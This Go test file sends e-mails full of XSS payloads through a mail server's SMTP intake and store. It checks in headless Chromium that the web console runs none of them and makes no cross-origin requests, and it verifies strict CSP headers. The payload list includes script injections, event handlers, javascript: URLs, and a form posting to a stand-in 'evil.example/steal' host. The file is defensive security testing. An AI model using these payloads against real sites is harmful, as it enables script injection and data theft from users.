package server_test

import (
	"encoding/base64"
	"fmt"
	"io"
	"mime"
	"net/http"
	"net/http/cookiejar"
	"net/http/httptest"
	"net/smtp"
	"net/url"
	"regexp"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/chromedp/cdproto/network"
	"github.com/chromedp/cdproto/page"
	"github.com/chromedp/chromedp"

	"github.com/kobana/workflow/mcpserver/inbox"
	"github.com/kobana/workflow/mcpserver/internal/chromiumtest"
	"github.com/kobana/workflow/mcpserver/internal/demo"
	"github.com/kobana/workflow/mcpserver/server"
	"github.com/kobana/workflow/mcpserver/store"
)

// xssPayloads are what a stranger puts in an e-mail's fields, each trying
// to run script (which would set window.__xss or open a dialog) or to
// fetch from the sender's hosts (evil.example, and a host that counts).
func xssPayloads(tracker string) []string {
	return []string{
		`<script>window.__xss=1;alert(1)</script>`,
		`<img src=x onerror="window.__xss=2;alert(2)">`,
		`<svg onload="window.__xss=3;alert(3)"><script>alert(4)</script></svg>`,
		`javascript:window.__xss=5;alert(5)`,
		`"><a href="javascript:alert(6)" id="xss-link">click</a><x y="`,
		`'><img src='` + tracker + `/img' onerror='alert(7)'>`,
		`</title></textarea></style><script>window.__xss=8</script>`,
		`<style>body{background:url(http://evil.example/css)}</style><div style="background:url(` + tracker + `/css)">`,
		`<iframe src="` + tracker + `/frame"></iframe><link rel=stylesheet href="http://evil.example/link.css">`,
		`<meta http-equiv="refresh" content="0;url=` + tracker + `/refresh">`,
		`<base href="http://evil.example/">{{.}}${alert(9)}`,
		"\u202Egnp.exe <b onmouseover=alert(10)>rtl</b>\u202D",
		`<math><mtext><table><mglyph><style><img src=x onerror=alert(11)>`,
		`<form action="http://evil.example/steal"><input name=csrf><button>go</button></form>`,
	}
}

// A real server takes e-mails whose every field carries script, event
// handlers, javascript: URLs, SVG, CSS, header-encoded forms, RTL
// overrides and a 1 MB subject — through its SMTP intake, and one through
// the store — and headless Chromium opens the console's list and each
// e-mail: no dialog opens, no script of theirs runs, no request leaves
// for another origin than the console's, and every page still renders.
// The e-mail's frame is served under its own policy (default-src 'none',
// sandbox) and the console's pages under one with nonces and
// frame-ancestors 'none'.
func TestConsoleXSSCorpusInChromium(t *testing.T) {
	ctx := chromiumtest.Browser(t)
	var asked atomic.Int32
	tracker := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { asked.Add(1) }))
	defer tracker.Close()
	st, path := openStore(t)
	addrs, stop := start(t, server.Config{Store: st, StorePath: path, Demo: true,
		HTTP: &server.HTTP{Addr: "127.0.0.1:0"}, Intake: &server.Intake{SMTPAddr: "127.0.0.1:0", DNSServer: spfZone(t)}})
	defer stop()
	base := "http://" + addrs["http"].String()
	payloads := xssPayloads(tracker.URL)
	all := strings.Join(payloads, " ")

	// Through SMTP: every header, RFC 2047 encoded words (B and Q), RFC
	// 2231 file names, a text and an HTML body, two attachments.
	encB := func(s string) string { return mime.BEncoding.Encode("UTF-8", s) }
	encQ := func(s string) string { return mime.QEncoding.Encode("UTF-8", s) }
	for i, p := range payloads {
		html := `<p id="greeting">Hello</p>` + all + `<img src="` + tracker.URL + `/pixel.gif"><a href="javascript:alert(12)">pay</a>`
		msg := "From: " + encB(p) + " <billing@acme.example>\r\n" +
			"To: " + encQ(p) + " <invoices@finance.in.kobana.email>\r\n" +
			"Subject: " + encB(fmt.Sprintf("%d %s", i, p)) + " " + encQ(p) + "\r\n" +
			"Message-ID: <" + fmt.Sprintf("x%d", i) + `."><script>alert(13)</script>@acme.example>` + "\r\n" +
			"Reply-To: " + encB(p) + " <r@acme.example>\r\n" +
			"X-Evil: " + encB(p) + "\r\n" +
			"List-Unsubscribe: <javascript:alert(14)>, <" + tracker.URL + "/unsub>\r\n" +
			"MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n" +
			"--b\r\nContent-Type: multipart/alternative; boundary=a\r\n\r\n" +
			"--a\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n" + base64.StdEncoding.EncodeToString([]byte(all)) + "\r\n" +
			"--a\r\nContent-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n" + base64.StdEncoding.EncodeToString([]byte(html)) + "\r\n" +
			"--a--\r\n" +
			"--b\r\nContent-Type: application/pdf\r\nContent-Disposition: attachment; filename*=UTF-8''" + url.PathEscape(p) + "\r\nContent-Transfer-Encoding: base64\r\n\r\nJVBERi0xLjQKJeLjz9MK\r\n" +
			"--b\r\nContent-Type: text/html; name=\"" + encB(p+".html") + "\"\r\nContent-Disposition: attachment; filename=\"" + encB(p+".html") + "\"\r\n\r\n" + p + "\r\n" +
			"--b--\r\n"
		if err := smtp.SendMail(addrs["smtp"].String(), nil, "billing@acme.example", []string{"invoices@finance.in.kobana.email"}, []byte(msg)); err != nil {
			t.Fatalf("sending e-mail %d: %v", i, err)
		}
	}
	// Through the store: a 1 MB subject and sender, hostile headers and
	// text, and an HTML body.
	big := strings.Repeat(payloads[0]+payloads[1]+"\u202E", 1<<20/(len(payloads[0])+len(payloads[1])+3))
	if err := inbox.NewRepo(st).Emails.Put(t.Context(), demo.Workspace, inbox.Email{ID: "eml_huge", InboxID: "ibx_invoices",
		From: big[:64<<10], Subject: big, Text: all, Headers: map[string]string{"X-Evil": all, all[:200]: all},
		Attachments: []inbox.AttachmentInfo{{Filename: payloads[2], ContentType: payloads[3]}},
		Status:      inbox.EmailFailed, StatusDetail: all, ReceivedAt: time.Now()}); err != nil {
		t.Fatal(err)
	}
	raw := "From: a@example.com\r\nSubject: x\r\nMIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n" + all + "\r\n"
	if err := st.PutBlob(t.Context(), demo.Workspace, "eml_huge", []byte(raw)); err != nil {
		t.Fatal(err)
	}
	emails, err := inbox.NewRepo(st).Emails.All(t.Context(), demo.Workspace, store.Query{Limit: 100})
	if err != nil {
		t.Fatal(err)
	}
	var ids []string
	for _, e := range emails {
		if strings.Contains(e.From, "billing@acme.example") || e.ID == "eml_huge" {
			ids = append(ids, e.ID)
		}
	}
	if len(ids) != len(payloads)+1 {
		t.Fatalf("%d hostile e-mails stored, want %d", len(ids), len(payloads)+1)
	}

	var mu sync.Mutex
	var problems, requests []string
	add := func(p string) { mu.Lock(); problems = append(problems, p); mu.Unlock() }
	if err := chromedp.Listen(ctx, func(ev any) {
		switch e := ev.(type) {
		case *page.EventJavascriptDialogOpening:
			add("a dialog opened: " + e.Message)
			go chromedp.Call(ctx, page.HandleJavaScriptDialog, page.HandleJavaScriptDialogParams{Accept: false})
		case *network.EventRequestWillBeSent:
			mu.Lock()
			requests = append(requests, e.Request.URL)
			mu.Unlock()
		}
	}); err != nil {
		t.Fatal(err)
	}
	code := store.NewSignInCode()
	if err := st.CreateSignInCode(t.Context(), store.SignInCode{Hash: store.HashToken(code), Person: demo.Owner, Workspace: demo.Workspace, Expires: time.Now().Add(5 * time.Minute)}); err != nil {
		t.Fatal(err)
	}
	if err := chromedp.Do(ctx, chromedp.Navigate(base+"/console/signin")); err != nil {
		t.Fatal(err)
	}
	waitFor(t, ctx, `document.getElementById("code")`)
	evalText(t, ctx, `(document.getElementById("code").value = `+jsString(code)+`, document.querySelector("form.signin button").click(), "")`)
	waitFor(t, ctx, `location.pathname === "/console/emails" && document.querySelector("h1")`)

	// Each page: rendered (its heading), none of the e-mail's markup
	// became an element, no script of theirs ran.
	check := func(path string) {
		t.Helper()
		if err := chromedp.Do(ctx, chromedp.Navigate(base+path)); err != nil {
			t.Fatal(err)
		}
		waitFor(t, ctx, `document.readyState === "complete" && document.querySelector("main h1")`)
		if got := evalText(t, ctx, `typeof window.__xss`); got != "undefined" {
			t.Errorf("%s: a script of the e-mail ran (window.__xss is %s)", path, got)
		}
		if n := evalText(t, ctx, `String(document.querySelectorAll("main script, main img, main svg, main style, main link, main meta, main base, main math, main iframe:not(.html-body), #xss-link, [onerror], [onload], [onmouseover], a[href^='javascript:' i]").length)`); n != "0" {
			t.Errorf("%s: the e-mail's markup became %s elements of the page", path, n)
		}
		for _, f := range strings.Fields(evalText(t, ctx, `Array.from(document.querySelectorAll("iframe")).map(f => JSON.stringify(f.getAttribute("sandbox"))).join(" ")`)) {
			if f != `""` {
				t.Errorf("%s: a frame's sandbox is %s, want empty (no allow-*)", path, f)
			}
		}
	}
	check("/console/emails")
	if text := evalText(t, ctx, "document.querySelector('main').innerText"); !strings.Contains(text, payloads[0]) || !strings.Contains(text, "\u202Egnp.exe") {
		t.Errorf("the list does not show the hostile subjects as text:\n%.2000s", text)
	}
	check("/console/emails?status=rejected")
	check("/console/emails?status=failed")
	for _, id := range ids {
		check("/console/emails/" + id)
		if id != "eml_huge" {
			continue
		}
		if n := evalText(t, ctx, `String(document.querySelector("main").innerText.length)`); len(n) < 7 {
			t.Errorf("the 1 MB subject's page shows %s characters", n)
		}
	}
	// Wait for the last page's frame to load before counting requests.
	waitFor(t, ctx, `!document.querySelector("iframe.html-body") || performance.getEntriesByName(document.querySelector("iframe.html-body").src).length > 0`)

	mu.Lock()
	ownRequests := 0
	for _, u := range requests {
		switch {
		case strings.HasPrefix(u, base+"/"):
			ownRequests++
		case strings.HasPrefix(u, "data:"), strings.HasPrefix(u, "about:"):
		default:
			problems = append(problems, "a request left for "+u)
		}
	}
	if ownRequests == 0 {
		problems = append(problems, "no request of the console's own was seen: the listener saw nothing")
	}
	if n := asked.Load(); n != 0 {
		problems = append(problems, fmt.Sprintf("the sender's host was asked %d times", n))
	}
	if len(problems) > 0 {
		t.Errorf("in the browser:\n%s", strings.Join(problems, "\n"))
	}
	mu.Unlock()

	// The headers, as a Go client signed in reads them.
	jar, _ := cookiejar.New(nil)
	c := &http.Client{Jar: jar}
	res, err := c.Get(base + "/console/signin")
	if err != nil {
		t.Fatal(err)
	}
	body, _ := io.ReadAll(res.Body)
	res.Body.Close()
	csrf := regexp.MustCompile(`name="csrf" value="([^"]+)"`).FindSubmatch(body)
	code = store.NewSignInCode()
	if err := st.CreateSignInCode(t.Context(), store.SignInCode{Hash: store.HashToken(code), Person: demo.Owner, Workspace: demo.Workspace, Expires: time.Now().Add(5 * time.Minute)}); err != nil {
		t.Fatal(err)
	}
	res, err = c.PostForm(base+"/console/signin", url.Values{"csrf": {string(csrf[1])}, "code": {code}})
	if err != nil {
		t.Fatal(err)
	}
	res.Body.Close()
	pageCSP := regexp.MustCompile(`^default-src 'none'; script-src 'nonce-[A-Za-z0-9_-]{20,}' 'strict-dynamic'; .*frame-ancestors 'none'`)
	if csp := res.Header.Get("Content-Security-Policy"); res.Request.URL.Path != "/console/emails" || !pageCSP.MatchString(csp) || strings.Contains(csp, "unsafe-inline") {
		t.Errorf("the list page (%s) is served with the policy %q", res.Request.URL.Path, csp)
	}
	for _, id := range []string{ids[0], "eml_huge"} {
		res, err = c.Get(base + "/console/emails/" + id + "/html")
		if err != nil {
			t.Fatal(err)
		}
		frame, _ := io.ReadAll(res.Body)
		res.Body.Close()
		csp := res.Header.Get("Content-Security-Policy")
		if res.StatusCode != http.StatusOK || !strings.HasPrefix(csp, "default-src 'none';") || !strings.HasSuffix(csp, "; sandbox") ||
			strings.Contains(csp, "script-src") || !strings.Contains(csp, "img-src data:;") || res.Header.Get("Referrer-Policy") != "no-referrer" {
			t.Errorf("the frame of %s: %s, policy %q, referrer %q", id, res.Status, csp, res.Header.Get("Referrer-Policy"))
		}
		if !strings.Contains(string(frame), "<script>window.__xss=1") {
			t.Errorf("the frame of %s does not hold the e-mail's own HTML (the test would prove nothing)", id)
		}
	}
}
